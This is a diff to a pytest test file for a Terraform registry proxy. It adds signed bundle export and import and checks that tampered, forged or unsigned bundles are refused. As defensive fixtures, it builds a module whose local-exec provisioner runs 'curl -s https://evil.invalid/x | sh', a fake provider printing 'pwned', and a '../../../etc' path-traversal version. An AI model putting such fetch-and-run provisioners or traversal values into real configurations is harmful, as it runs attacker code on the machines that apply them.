@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import gzip
+import hashlib
 import io
 import json
 import os
@@ -10,18 +12,20 @@ import subprocess
 import sys
 import tarfile
 import urllib.request
-from collections.abc import Callable
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
 
+import pysequoia
 import pytest
 from aiohttp.test_utils import TestClient
 
 from proxy.app import create_app
 from proxy.config import load_config
 from proxy.hashes import h1_of_zip
-from tests.support.fake_registry import FakeRegistry
-from tests.support.gpg import GpgKey
+from tests.support.fake_registry import FakeRegistry, build_zip
+from tests.support.gpg import GpgKey, generate_key, stop_agent
 from tests.support.proxy_process import ProxyProcess, free_port
 from tests.support.terraform import terraform_env, terraform_init
 
@@ -45,6 +49,8 @@ module "tarball" {
 
 def cli(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
     env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(cwd)}
+    if "PYTHONPATH" in os.environ:  # the checkout under test, not another install
+        env["PYTHONPATH"] = os.environ["PYTHONPATH"]
     return subprocess.run([sys.executable, "-m", "proxy", *args], capture_output=True,
                           text=True, env=env, timeout=300, cwd=cwd)
 
@@ -75,16 +81,73 @@ def read_bundle(bundle: Path) -> tuple[dict[str, bytes], dict[str, Any]]:
 
 
 def write_bundle(path: Path, members: dict[str, bytes],
-                 manifest: dict[str, Any] | None = None) -> Path:
-    """A tar of the given members (the manifest, when given, rewritten first)."""
+                 manifest: dict[str, Any] | None = None, signing_key: Path | None = None,
+                 ) -> Path:
+    """A tar of the given members: the manifest, when given, rewritten first (its old
+    signature kept), then signed again with signing_key, when given."""
     if manifest is not None:
         members = {**members, "manifest.json": json.dumps(manifest).encode()}
+    if signing_key is not None:
+        key = pysequoia.Tsk.from_bytes(signing_key.read_bytes())
+        members = {**members, "manifest.json.sig": pysequoia.sign(
+            key.signer(), members["manifest.json"], mode=pysequoia.SignatureMode.DETACHED,
+            armor=False)}
     with tarfile.open(path, "w") as tar:
         for name, content in members.items():
             info = tarfile.TarInfo(name)
             info.size = len(content)
             tar.addfile(info, io.BytesIO(content))
     return path
+
+
+def relist(manifest: dict[str, Any], name: str, content: bytes) -> None:
+    """Make the manifest's entry for a member describe new content."""
+    manifest["files"][name] = {"size": len(content),
+                               "sha256": hashlib.sha256(content).hexdigest()}
+
+
+def cache_snapshot(cache: Path) -> dict[str, str]:
+    """Every file under the cache directory with its sha256."""
+    return {str(path.relative_to(cache)): hashlib.sha256(path.read_bytes()).hexdigest()
+            for path in sorted(cache.rglob("*")) if path.is_file()}
+
+
+def module_with_provisioner() -> bytes:
+    """A module archive whose main.tf runs a command on the machine that applies it."""
+    main = b'resource "null_resource" "x" {\n  provisioner "local-exec" {\n' \
+           b'    command = "curl -s https://evil.invalid/x | sh"\n  }\n}\n'
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w") as tar:
+        info = tarfile.TarInfo("main.tf")
+        info.size = len(main)
+        tar.addfile(info, io.BytesIO(main))
+    return gzip.compress(buffer.getvalue())
+
+
+@dataclass(frozen=True)
+class KeyPair:
+    """A bundle signing key pair as `keygen` writes it."""
+
+    secret: Path
+    public: Path
+
+
+@pytest.fixture
+def bundle_keys(tmp_path: Path) -> KeyPair:
+    """The exporter's key pair, from `keygen`."""
+    result = cli("keygen", "--output", str(tmp_path / "keys"), cwd=tmp_path)
+    assert result.returncode == 0, result.stderr
+    return KeyPair(tmp_path / "keys" / "bundle-key.secret.asc",
+                   tmp_path / "keys" / "bundle-key.public.asc")
+
+
+@pytest.fixture(scope="module")
+def gpg_operator(tmp_path_factory: pytest.TempPathFactory) -> Iterator[GpgKey]:
+    """An operator's own key, made with gpg and protected by a passphrase."""
+    key = generate_key(tmp_path_factory.mktemp("gpg") / "operator", "Bundle Operator",
+                       passphrase="correct horse battery staple")
+    yield key
+    stop_agent(key)
 
 
 @pytest.fixture
@@ -96,9 +159,10 @@ def trusted_keys(tmp_path: Path, signer: GpgKey) -> Path:
 
 
 @pytest.fixture
-def bundle(tmp_path: Path, write_config: Callable[..., Path],
-           registry: FakeRegistry) -> Path:
-    """Warm a connected proxy's cache from a configuration and export it."""
+def bundle(tmp_path: Path, write_config: Callable[..., Path], registry: FakeRegistry,
+           bundle_keys: KeyPair) -> Path:
+    """Warm a connected proxy's cache from a configuration and export it, signed (and a
+    selection of it, as partial.tar)."""
     configuration = tmp_path / "configuration"
     configuration.mkdir()
     (configuration / "main.tf").write_text(ROOT_MODULE)
@@ -117,15 +181,15 @@ def bundle(tmp_path: Path, write_config: Callable[..., Path],
     assert registry.archive_requests() == []  # resumable: what is cached is not fetched again
     output = tmp_path / "bundle.tar"
     exported = cli("export", "--config", str(connected), "--output", str(output),
-                   cwd=tmp_path)
+                   "--signing-key", str(bundle_keys.secret), cwd=tmp_path)
     assert exported.returncode == 0, exported.stderr
-    assert "4 provider packages, 2 module archives" in exported.stdout
+    assert "4 provider packages, 2 module archives, signed with key " in exported.stdout
     # A selection: only what a list names.
     listing = tmp_path / "only-null.txt"
     listing.write_text("hashicorp/null ~> 3.0\nacme/tarball/aws\n")
     partial = tmp_path / "partial.tar"
     selected = cli("export", "--config", str(connected), "--output", str(partial),
-                   str(listing), cwd=tmp_path)
+                   "--signing-key", str(bundle_keys.secret), str(listing), cwd=tmp_path)
     assert selected.returncode == 0, selected.stderr
     assert "2 provider packages, 1 module archives" in selected.stdout
     with tarfile.open(partial) as tar:
@@ -135,15 +199,20 @@ def bundle(tmp_path: Path, write_config: Callable[..., Path],
 
 
 @pytest.mark.e2e
-def test_carry_the_cache_across_the_gap(tmp_path: Path, bundle: Path, trusted_keys: Path,
+def test_carry_the_cache_across_the_gap(tmp_path: Path, bundle: Path, bundle_keys: KeyPair,
                                         registry: FakeRegistry) -> None:
+    """keygen, export --signing-key, import --bundle-key alone (the registry keys the signed
+    bundle carries check the provider signatures), then an offline `terraform init`."""
     port = free_port()
     inside = offline_config(tmp_path, "inside", port)
     refused = cli("import", "--config", str(inside), str(bundle), cwd=tmp_path)
-    assert refused.returncode == 2 and "--trusted-keys" in refused.stderr
-    imported = cli("import", "--config", str(inside), "--trusted-keys", str(trusted_keys),
+    assert refused.returncode == 2 and "--bundle-key" in refused.stderr
+    assert not (tmp_path / "inside").exists()
+    imported = cli("import", "--config", str(inside), "--bundle-key", str(bundle_keys.public),
                    str(bundle), cwd=tmp_path)
     assert imported.returncode == 0, imported.stderr
+    assert "imported 4 provider packages, 2 module archives (bundle signed by " \
+        in imported.stdout
     registry.requests.clear()
     with ProxyProcess(inside, tmp_path / "inside", port, tmp_path / "inside.log") as proxy:
         printed = proxy.cli("client-config")
@@ -167,8 +236,8 @@ def test_carry_the_cache_across_the_gap(tmp_path: Path, bundle: Path, trusted_ke
     assert registry.requests == []
 
 
-def test_altered_bundle_is_refused_and_the_cache_untouched(tmp_path: Path,
-                                                           bundle: Path) -> None:
+def test_altered_bundle_is_refused_and_the_cache_untouched(tmp_path: Path, bundle: Path,
+                                                           bundle_keys: KeyPair) -> None:
     data = bytearray(bundle.read_bytes())
     with tarfile.open(bundle) as tar:
         member = next(m for m in tar.getmembers() if m.name.endswith("linux_amd64.zip"))
@@ -176,8 +245,8 @@ def test_altered_bundle_is_refused_and_the_cache_untouched(tmp_path: Path,
     altered = tmp_path / "altered.tar"
     altered.write_bytes(bytes(data))
     inside = offline_config(tmp_path, "inside")
-    result = cli("import", "--config", str(inside), "--trust-bundle-keys", str(altered),
-                 cwd=tmp_path)
+    result = cli("import", "--config", str(inside), "--bundle-key", str(bundle_keys.public),
+                 str(altered), cwd=tmp_path)
     assert result.returncode == 2
     assert member.name in result.stderr and "does not match the manifest" in result.stderr
     cache = tmp_path / "inside"
@@ -186,21 +255,22 @@ def test_altered_bundle_is_refused_and_the_cache_untouched(tmp_path: Path,
 
 def test_a_forged_manifest_cannot_carry_a_forged_package(tmp_path: Path,
                                                          bundle: Path) -> None:
-    """Rewrite a zip and its manifest line consistently: the signed checksum still says no."""
+    """Rewrite a zip and its manifest line consistently: even when nothing checks who made
+    the bundle, the registry's signed checksum still says no."""
     members, manifest = read_bundle(bundle)
     name = next(n for n in members if n.endswith("linux_amd64.zip"))
     members[name] = members[name][:-1] + bytes([members[name][-1] ^ 1])
-    import hashlib
-    manifest["files"][name] = hashlib.sha256(members[name]).hexdigest()
+    relist(manifest, name, members[name])
     forged = write_bundle(tmp_path / "forged.tar", members, manifest)
     result = cli("import", "--config", str(offline_config(tmp_path, "inside")),
-                 "--trust-bundle-keys", str(forged), cwd=tmp_path)
+                 "--allow-unsigned-bundle", str(forged), cwd=tmp_path)
     assert result.returncode == 2
     assert "signed checksum" in result.stderr
 
 
 async def test_terraform_providers_mirror_directory_imports_and_serves(
-        tmp_path: Path, registry: FakeRegistry, aiohttp_client) -> None:  # type: ignore[no-untyped-def]
+        tmp_path: Path, registry: FakeRegistry, signer: GpgKey,
+        aiohttp_client) -> None:  # type: ignore[no-untyped-def]
     release = registry.releases[("hashicorp", "null", "3.2.1")]
     # What `terraform providers mirror` writes (Unicode host names would be written as such).
     directory = tmp_path / "mirror" / "registry.terraform.io" / "hashicorp" / "null"
@@ -211,7 +281,16 @@ async def test_terraform_providers_mirror_directory_imports_and_serves(
     (directory / "3.2.1.json").write_text(json.dumps({"archives": {"linux_amd64": {
         "url": zip_path.name, "hashes": [h1_of_zip(zip_path)]}}}))
     inside = offline_config(tmp_path, "inside")
-    result = cli("import", "--config", str(inside), str(tmp_path / "mirror"), cwd=tmp_path)
+    key = str(_write(tmp_path / "k.asc", signer.armored_public_key))
+    for flags in (["--bundle-key", key], ["--allow-unsigned-bundle", "--trusted-keys", key]):
+        # Nothing in the directory is signed: no key can check it, and none pretends to.
+        unvouched = cli("import", "--config", str(inside), *flags, str(tmp_path / "mirror"),
+                        cwd=tmp_path)
+        assert unvouched.returncode == 2, flags
+        assert "so only --allow-unsigned-bundle imports it" in unvouched.stderr, flags
+    assert not (tmp_path / "inside").exists()
+    result = cli("import", "--config", str(inside), "--allow-unsigned-bundle",
+                 str(tmp_path / "mirror"), cwd=tmp_path)
     assert result.returncode == 0, result.stderr
     client: TestClient = await aiohttp_client(create_app(load_config(inside, environ={})))
     base = "/mirror/registry.terraform.io/hashicorp/null"
@@ -224,7 +303,8 @@ async def test_terraform_providers_mirror_directory_imports_and_serves(
     (directory / "3.2.1.json").write_text(json.dumps({"archives": {"linux_amd64": {
         "url": zip_path.name, "hashes": ["h1:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="]}}}))
     other = offline_config(tmp_path, "other")
-    refused = cli("import", "--config", str(other), str(tmp_path / "mirror"), cwd=tmp_path)
+    refused = cli("import", "--config", str(other), "--allow-unsigned-bundle",
+                  str(tmp_path / "mirror"), cwd=tmp_path)
     assert refused.returncode == 2 and "matches none of the hashes" in refused.stderr
 
 
@@ -249,7 +329,8 @@ def test_warm_a_running_proxy(tmp_path: Path, write_config: Callable[..., Path],
 
 @pytest.mark.parametrize("damage", ["drop a file", "bad version", "no manifest"])
 def test_malformed_bundles_are_refused_cleanly(tmp_path: Path, bundle: Path,
-                                               damage: str) -> None:
+                                               bundle_keys: KeyPair, damage: str) -> None:
+    """Damage that a signed manifest vouches for (signed again after it) is still refused."""
     members, manifest = read_bundle(bundle)
     if damage == "drop a file":
         del members[manifest["providers"][0]["sums"]]
@@ -257,11 +338,13 @@ def test_malformed_bundles_are_refused_cleanly(tmp_path: Path, bundle: Path,
     elif damage == "bad version":
         manifest["providers"][0]["version"] = "../../../etc"
     members["manifest.json"] = json.dumps(manifest).encode()
+    members = read_bundle(write_bundle(tmp_path / "signed.tar", members,
+                                       signing_key=bundle_keys.secret))[0]
     if damage == "no manifest":
         del members["manifest.json"]
     broken = write_bundle(tmp_path / "broken.tar", members)
     result = cli("import", "--config", str(offline_config(tmp_path, "inside")),
-                 "--trust-bundle-keys", str(broken), cwd=tmp_path)
+                 "--bundle-key", str(bundle_keys.public), str(broken), cwd=tmp_path)
     assert result.returncode == 2, result.stderr
     assert "refused" in result.stderr and "Traceback" not in result.stderr
     assert not list((tmp_path / "inside").rglob("*.zip"))
@@ -272,11 +355,9 @@ def test_a_bundle_signed_by_its_own_key_is_refused(tmp_path: Path, bundle: Path,
                                                    registry: FakeRegistry) -> None:
     """Replace a package, re-sign its SHA256SUMS with another key and put that key in the
     bundle: consistent with itself, but not with the trusted keys."""
-    import hashlib
     members, manifest = read_bundle(bundle)
     entry = next(e for e in manifest["providers"] if e["platform"] == "linux_amd64"
                  and e["type"] == "null")
-    from tests.support.fake_registry import build_zip
     evil = build_zip({"terraform-provider-null_v3.2.1": (b"#!/bin/sh\necho pwned\n", 0o755)})
     sha = hashlib.sha256(evil).hexdigest()
     sums = f"{sha}  {entry['filename']}\n".encode()
@@ -288,7 +369,7 @@ def test_a_bundle_signed_by_its_own_key_is_refused(tmp_path: Path, bundle: Path,
     entry["document"]["signing_keys"] = {"gpg_public_keys": [
         {"ascii_armor": impostor.armored_public_key}]}
     for name in (entry["zip"], entry["sums"], entry["signature"]):
-        manifest["files"][name] = hashlib.sha256(members[name]).hexdigest()
+        relist(manifest, name, members[name])
     manifest["providers"] = [entry]
     members = {k: v for k, v in members.items()
                if k in (entry["zip"], entry["sums"], entry["signature"])}
@@ -297,46 +378,66 @@ def test_a_bundle_signed_by_its_own_key_is_refused(tmp_path: Path, bundle: Path,
     manifest["versions"] = {}
     forged = write_bundle(tmp_path / "self-signed.tar", members, manifest)
     result = cli("import", "--config", str(offline_config(tmp_path, "inside")),
-                 "--trusted-keys", str(trusted_keys), str(forged), cwd=tmp_path)
+                 "--allow-unsigned-bundle", "--trusted-keys", str(trusted_keys), str(forged),
+                 cwd=tmp_path)
     assert result.returncode == 2
     assert "does not verify" in result.stderr
     assert not list((tmp_path / "inside").rglob("*.zip"))
 
 
-def test_user_mistakes_get_clear_answers(tmp_path: Path, bundle: Path, trusted_keys: Path,
+def test_user_mistakes_get_clear_answers(tmp_path: Path, bundle: Path, bundle_keys: KeyPair,
                                          write_config: Callable[..., Path],
                                          signer: GpgKey) -> None:
     connected = str(write_config(cache_dir=tmp_path / "connected"))
     inside = str(offline_config(tmp_path, "inside"))
     wanted = tmp_path / "aws.txt"
     wanted.write_text("hashicorp/aws ~> 5.0\n")
+    secret, public = str(bundle_keys.secret), str(bundle_keys.public)
+    out = str(tmp_path / "out.tar")
     cases = {
         "not cached": (["export", "--config", connected, "--output",
-                        str(tmp_path / "aws.tar"), str(wanted)],
+                        str(tmp_path / "aws.tar"), "--signing-key", secret, str(wanted)],
                        "not in the cache (warm it first): registry.terraform.io/hashicorp/aws"),
+        "no signing choice": (["export", "--config", connected, "--output", out],
+                              "one of the arguments --signing-key --unsigned is required"),
+        "public key to sign": (["export", "--config", connected, "--output", out,
+                                "--signing-key", public], "holds a public key only"),
+        "not a key": (["export", "--config", connected, "--output", out, "--signing-key",
+                       str(_write(tmp_path / "x.asc", "hello\n"))], "holds no OpenPGP"),
+        "lone passphrase": (["export", "--config", connected, "--output", out, "--unsigned",
+                             "--passphrase-file", secret], "goes with --signing-key"),
+        "no origin check": (["import", "--config", inside, str(bundle)],
+                            "needs --bundle-key FILE"),
+        "secret key to verify": (["import", "--config", inside, "--bundle-key", secret,
+                                  str(bundle)], "holds a secret key"),
+        "both origins": (["import", "--config", inside, "--bundle-key", public,
+                          "--allow-unsigned-bundle", str(bundle)], "not allowed with"),
         "bad platform": (["warm", "--config", connected, "--platform", "linux-amd64",
                           str(wanted)], "expected OS_ARCH"),
         "bad constraint": (["warm", "--config", connected, str(_write(tmp_path / "c.txt",
                            "hashicorp/null banana\n"))], "c.txt:1: "),
-        "binary keys": (["import", "--config", inside, "--trusted-keys",
-                         str(_write(tmp_path / "k.gpg", b"\x99\x01\x0d")), str(bundle)],
-                        "not ASCII-armored"),
-        "unpacked bundle": (["import", "--config", inside, str(_unpack(bundle, tmp_path))],
-                            "looks like an unpacked bundle"),
+        "binary keys": (["import", "--config", inside, "--bundle-key", public,
+                         "--trusted-keys", str(_write(tmp_path / "k.gpg", b"\x99\x01\x0d")),
+                         str(bundle)], "not ASCII-armored"),
+        "unpacked bundle": (["import", "--config", inside, "--bundle-key", public,
+                             str(_unpack(bundle, tmp_path))], "looks like an unpacked bundle"),
+        "keygen over a key": (["keygen", "--output", str(bundle_keys.secret.parent)],
+                              "exists; keygen never overwrites a key"),
     }
     for name, (args, message) in cases.items():
         result = cli(*args, cwd=tmp_path)
         assert result.returncode == 2, (name, result.stdout, result.stderr)
         assert message in result.stderr, (name, result.stderr)
         assert "Traceback" not in result.stderr, name
-    assert not (tmp_path / "aws.tar").exists()
+    assert not (tmp_path / "aws.tar").exists() and not (tmp_path / "out.tar").exists()
+    assert not (tmp_path / "inside").exists()
 
     # A bundle unpacked and packed again with tar (./ names, directory entries) still imports.
     repacked = tmp_path / "repacked.tar"
     subprocess.run(["tar", "cf", str(repacked), "-C", str(_unpack(bundle, tmp_path / "r")),
                     "."], check=True)
-    result = cli("import", "--config", inside, "--trusted-keys", str(trusted_keys),
-                 str(repacked), cwd=tmp_path)
+    result = cli("import", "--config", inside, "--bundle-key", public, str(repacked),
+                 cwd=tmp_path)
     assert result.returncode == 0, result.stderr
 
 
@@ -353,3 +454,215 @@ def _unpack(bundle: Path, where: Path) -> Path:
     target.mkdir(parents=True)
     subprocess.run(["tar", "xf", str(bundle), "-C", str(target)], check=True)
     return target
+
+
+def _tampered(kind: str, members: dict[str, bytes], manifest: dict[str, Any]) -> str:
+    """Change a signed bundle the way an attacker on the carrying path could; returns the
+    member the refusal must name."""
+    module = next(e["archive"] for e in manifest["modules"] if "/acme/net/" in e["archive"])
+    if kind == "module and its manifest entry rewritten":
+        members[module] = module_with_provisioner()
+        relist(manifest, module, members[module])
+        members["manifest.json"] = json.dumps(manifest).encode()
+        return "manifest.json.sig"
+    if kind == "module rewritten":
+        members[module] = module_with_provisioner()
+        return module
+    if kind == "manifest edited after signing":
+        manifest["versions"]["registry.terraform.io/hashicorp/null"][0]["platforms"].append(
+            "windows_amd64")
+        members["manifest.json"] = json.dumps(manifest, indent=1).encode()
+        return "manifest.json.sig"
+    if kind == "member added":
+        members["modules/registry.terraform.io/acme/net/aws/9.9.9.tar.gz"] = \
+            module_with_provisioner()
+        return "modules/registry.terraform.io/acme/net/aws/9.9.9.tar.gz"
+    if kind == "member dropped":
+        del members[module]
+        return module
+    if kind == "signature dropped":
+        del members["manifest.json.sig"]
+        return "manifest.json.sig"
+    raise AssertionError(kind)
+
+
+TAMPERING = ["module and its manifest entry rewritten", "module rewritten",
+             "manifest edited after signing", "member added", "member dropped",
+             "signature dropped", "member given twice"]
+
+
+def test_a_tampered_signed_bundle_is_refused_and_the_cache_kept(
+        tmp_path: Path, bundle: Path, bundle_keys: KeyPair, trusted_keys: Path) -> None:
+    """Whatever changed after signing, even with every provider key trusted: the refusal
+    names the member, and the cache stays byte for byte as it was."""
+    inside = str(offline_config(tmp_path, "inside"))
+    first = cli("import", "--config", inside, "--bundle-key", str(bundle_keys.public),
+                str(tmp_path / "partial.tar"), cwd=tmp_path)
+    assert first.returncode == 0, first.stderr
+    before = cache_snapshot(tmp_path / "inside")
+    assert any(name.startswith("modules/") for name in before)
+    for kind in TAMPERING:
+        members, manifest = read_bundle(bundle)
+        tampered = tmp_path / "tampered.tar"
+        if kind == "member given twice":
+            module = next(e["archive"] for e in manifest["modules"]
+                          if "/acme/net/" in e["archive"])
+            tampered.write_bytes(bundle.read_bytes())
+            # Appended after the genuine member: tar tools extract the last copy.
+            with tarfile.open(tampered, "a") as tar:
+                evil = module_with_provisioner()
+                info = tarfile.TarInfo(module)
+                info.size = len(evil)
+                tar.addfile(info, io.BytesIO(evil))
+            named = module
+        else:
+            named = _tampered(kind, members, manifest)
+            write_bundle(tampered, members)
+        result = cli("import", "--config", inside, "--bundle-key", str(bundle_keys.public),
+                     "--trusted-keys", str(trusted_keys), str(tampered), cwd=tmp_path)
+        assert result.returncode == 2, (kind, result.stdout)
+        assert f"refused {tampered}: {named}: " in result.stderr, (kind, result.stderr)
+        assert "Traceback" not in result.stderr, kind
+        assert cache_snapshot(tmp_path / "inside") == before, kind
+
+
+def test_a_bundle_signed_by_an_unknown_key_is_refused(tmp_path: Path, bundle: Path,
+                                                      gpg_operator: GpgKey) -> None:
+    other = tmp_path / "other.asc"
+    other.write_text(gpg_operator.armored_public_key)
+    result = cli("import", "--config", str(offline_config(tmp_path, "inside")),
+                 "--bundle-key", str(other), str(bundle), cwd=tmp_path)
+    assert result.returncode == 2
+    members = read_bundle(bundle)[0]
+    made_by = pysequoia.Sig.from_bytes(members["manifest.json.sig"]).issuer_fingerprint
+    assert made_by and made_by.upper() in result.stderr
+    assert "manifest.json.sig: the manifest signature" in result.stderr
+    assert "does not verify with any bundle key" in result.stderr
+    assert not (tmp_path / "inside").exists()
+
+
+def test_a_bad_registry_signature_is_refused_even_in_a_signed_bundle(
+        tmp_path: Path, bundle: Path, bundle_keys: KeyPair, impostor: GpgKey) -> None:
+    """The bundle's signature vouches for the registry keys it carries, not for whatever
+    SHA256SUMS signature it holds: the provider check still runs with those keys."""
+    members, manifest = read_bundle(bundle)
+    entry = next(e for e in manifest["providers"] if e["type"] == "null"
+                 and e["platform"] == "linux_amd64")
+    members[entry["signature"]] = impostor.detach_sign(members[entry["sums"]])
+    relist(manifest, entry["signature"], members[entry["signature"]])
+    resigned = write_bundle(tmp_path / "resigned.tar", members, manifest,
+                            signing_key=bundle_keys.secret)
+    result = cli("import", "--config", str(offline_config(tmp_path, "inside")),
+                 "--bundle-key", str(bundle_keys.public), str(resigned), cwd=tmp_path)
+    assert result.returncode == 2
+    assert f"{entry['signature']}: the signature does not verify with the keys in the " \
+        "bundle" in result.stderr
+    assert not list((tmp_path / "inside").rglob("*.zip"))
+
+
+def test_trusted_keys_are_an_extra_check_on_a_signed_bundle(
+        tmp_path: Path, bundle: Path, bundle_keys: KeyPair, trusted_keys: Path,
+        impostor: GpgKey) -> None:
+    """A package signed with a key the bundle carries, from a trusted exporter: the bundle
+    key vouches for it; --trusted-keys, when given, must agree as well."""
+    members, manifest = read_bundle(bundle)
+    entry = next(e for e in manifest["providers"] if e["type"] == "random")
+    members[entry["signature"]] = impostor.detach_sign(members[entry["sums"]])
+    relist(manifest, entry["signature"], members[entry["signature"]])
+    entry["document"]["signing_keys"] = {"gpg_public_keys": [
+        {"ascii_armor": impostor.armored_public_key}]}
+    keep = {entry["zip"], entry["sums"], entry["signature"]}
+    members = {k: v for k, v in members.items() if k in keep}
+    manifest.update(providers=[entry], modules=[], versions={},
+                    files={k: v for k, v in manifest["files"].items() if k in keep})
+    signed = write_bundle(tmp_path / "signed.tar", members, manifest,
+                          signing_key=bundle_keys.secret)
+    inside = str(offline_config(tmp_path, "inside"))
+    checked = cli("import", "--config", inside, "--bundle-key", str(bundle_keys.public),
+                  "--trusted-keys", str(trusted_keys), str(signed), cwd=tmp_path)
+    assert checked.returncode == 2
+    assert f"{entry['signature']}: the signature does not verify with any of the " \
+        "--trusted-keys" in checked.stderr
+    assert not list((tmp_path / "inside").rglob("*.zip"))
+    vouched = cli("import", "--config", inside, "--bundle-key", str(bundle_keys.public),
+                  str(signed), cwd=tmp_path)
+    assert vouched.returncode == 0, vouched.stderr
+    assert "imported 1 provider packages" in vouched.stdout
+
+
+def test_keygen_writes_a_pair_gpg_understands_and_never_overwrites(
+        tmp_path: Path, bundle: Path, bundle_keys: KeyPair) -> None:
+    assert bundle_keys.secret.stat().st_mode & 0o777 == 0o600
+    assert bundle_keys.public.stat().st_mode & 0o044 == 0o044  # importers may read it
+    assert "PRIVATE KEY" not in bundle_keys.public.read_text()
+    # An auditor checks a bundle with gpg alone: its manifest signature is plain OpenPGP.
+    home = tmp_path / "auditor"
+    home.mkdir(mode=0o700)
+    env = {"GNUPGHOME": str(home), "PATH": os.environ.get("PATH", "/usr/bin:/bin")}
+    subprocess.run(["gpg", "--batch", "--import", str(bundle_keys.public)], env=env,
+                   check=True, capture_output=True, timeout=60)
+    unpacked = _unpack(bundle, tmp_path)
+    verified = subprocess.run(["gpg", "--batch", "--verify", str(unpacked / "manifest.json.sig"),
+                               str(unpacked / "manifest.json")], env=env, capture_output=True,
+                              text=True, timeout=60)
+    assert verified.returncode == 0 and "Good signature" in verified.stderr, verified.stderr
+
+    keys = bundle_keys.secret.parent
+    contents = {path.name: path.read_bytes() for path in keys.iterdir()}
+    again = cli("keygen", "--output", str(keys), cwd=tmp_path)
+    assert again.returncode == 2 and "never overwrites" in again.stderr
+    assert {path.name: path.read_bytes() for path in keys.iterdir()} == contents
+    # Half a pair in the way: nothing is written either.
+    lone = tmp_path / "lone"
+    lone.mkdir()
+    (lone / "bundle-key.public.asc").write_text("mine\n")
+    refused = cli("keygen", "--output", str(lone), cwd=tmp_path)
+    assert refused.returncode == 2 and "bundle-key.public.asc exists" in refused.stderr
+    assert [path.name for path in lone.iterdir()] == ["bundle-key.public.asc"]
+
+
+def test_a_gpg_made_key_with_a_passphrase_signs_bundles(
+        tmp_path: Path, bundle: Path, write_config: Callable[..., Path],
+        gpg_operator: GpgKey) -> None:
+    connected = str(write_config(cache_dir=tmp_path / "connected"))
+    secret = _write(tmp_path / "operator.secret.asc", gpg_operator.armored_secret_key())
+    public = _write(tmp_path / "operator.asc", gpg_operator.armored_public_key)
+    output = tmp_path / "operator.tar"
+
+    def export(*extra: str) -> subprocess.CompletedProcess[str]:
+        return cli("export", "--config", connected, "--output", str(output), "--signing-key",
+                   str(secret), *extra, cwd=tmp_path)
+
+    locked = export()
+    assert locked.returncode == 2 and "passphrase-protected" in locked.stderr
+    wrong = export("--passphrase-file", str(_write(tmp_path / "wrong", "nope\n")))
+    assert wrong.returncode == 2 and "cannot unlock" in wrong.stderr
+    assert not output.exists()
+    right = export("--passphrase-file", str(_write(tmp_path / "pass",
+                                                   gpg_operator.passphrase + "\n")))
+    assert right.returncode == 0, right.stderr
+    assert f"signed with key {gpg_operator.fingerprint}" in right.stdout
+    imported = cli("import", "--config", str(offline_config(tmp_path, "inside")),
+                   "--bundle-key", str(public), str(output), cwd=tmp_path)
+    assert imported.returncode == 0, imported.stderr
+    assert f"bundle signed by {gpg_operator.fingerprint}" in imported.stdout
+
+
+def test_an_unsigned_bundle_needs_the_explicit_opt_out(
+        tmp_path: Path, bundle: Path, bundle_keys: KeyPair,
+        write_config: Callable[..., Path]) -> None:
+    connected = str(write_config(cache_dir=tmp_path / "connected"))
+    output = tmp_path / "unsigned.tar"
+    exported = cli("export", "--config", connected, "--output", str(output), "--unsigned",
+                   cwd=tmp_path)
+    assert exported.returncode == 0 and "UNSIGNED" in exported.stdout
+    inside = str(offline_config(tmp_path, "inside"))
+    refused = cli("import", "--config", inside, "--bundle-key", str(bundle_keys.public),
+                  str(output), cwd=tmp_path)
+    assert refused.returncode == 2
+    assert "manifest.json.sig: missing, the bundle is not signed" in refused.stderr
+    assert not (tmp_path / "inside").exists()
+    allowed = cli("import", "--config", inside, "--allow-unsigned-bundle", str(output),
+                  cwd=tmp_path)
+    assert allowed.returncode == 0, allowed.stderr
+    assert "origin not checked: --allow-unsigned-bundle" in allowed.stdout
